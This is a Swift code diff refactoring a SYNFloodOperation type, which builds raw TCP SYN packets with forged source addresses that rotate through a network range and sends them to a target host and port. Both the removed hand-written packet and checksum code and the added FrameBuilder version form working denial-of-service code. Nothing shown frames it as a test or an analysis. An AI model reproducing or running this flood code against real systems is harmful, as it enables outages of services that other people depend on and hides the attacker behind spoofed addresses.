@@ -1,4 +1,5 @@
 internal import Glibc
+internal import WireFormat
 
 /// Sends SYNs that nobody will complete.
 package struct SYNFloodOperation: PeerOperation {
@@ -61,30 +62,16 @@ package struct SYNFloodOperation: PeerOperation {
 
   /// One SYN with its IP header. The addresses begin at A.B.0.1.
   private func syn(_ number: Int, to target: UInt32) -> [UInt8] {
-    let source = network + UInt32(number) + 1
-    func octets(_ value: UInt32) -> [UInt8] {
-      (0..<4).map { UInt8(truncatingIfNeeded: value >> (24 - 8 * $0)) }
-    }
-    func pair(_ value: Int) -> [UInt8] {
-      [UInt8(truncatingIfNeeded: value >> 8), UInt8(truncatingIfNeeded: value)]
-    }
-    // Flags SYN, window 65535, one option: an MSS of 1460.
-    var segment = pair(1024 + number % 60_000) + pair(port) + octets(UInt32(number) &* 64_000) + octets(0)
-    segment += [6 << 4, 0x02] + pair(65535) + pair(0) + pair(0) + [2, 4] + pair(1460)
-    let pseudoHeader = octets(source) + octets(target) + [0, UInt8(IPPROTO_TCP)] + pair(segment.count)
-    segment.replaceSubrange(16..<18, with: pair(Self.checksum(pseudoHeader + segment)))
-    // Total length, identification and header checksum are the kernel's (raw(7)).
-    return [0x45, 0] + pair(20 + segment.count) + pair(0) + pair(0x4000) + [64, UInt8(IPPROTO_TCP)] + pair(0)
-      + octets(source) + octets(target) + segment
-  }
-
-  /// Source: RFC 1071.
-  private static func checksum(_ bytes: [UInt8]) -> Int {
-    var sum = 0
-    for index in stride(from: 0, to: bytes.count, by: 2) {
-      sum += Int(bytes[index]) << 8 | Int(bytes[index + 1])
-    }
-    while sum > 0xFFFF { sum = (sum & 0xFFFF) + (sum >> 16) }
-    return ~sum & 0xFFFF
+    var builder = FrameBuilder()
+    builder.source = IPAddress(ipv4: network + UInt32(number) + 1)
+    builder.destination = IPAddress(ipv4: target)
+    builder.sourcePort = UInt16(1024 + number % 60_000)
+    builder.destinationPort = UInt16(port)
+    builder.sequence = SequenceNumber(UInt32(number) &* 64_000)
+    builder.flags = .syn
+    builder.window = 65_535
+    builder.options = [.maximumSegmentSize(1460)]
+    // The identification, which is 0 here, becomes the kernel's (raw(7)).
+    return builder.packet
   }
 }
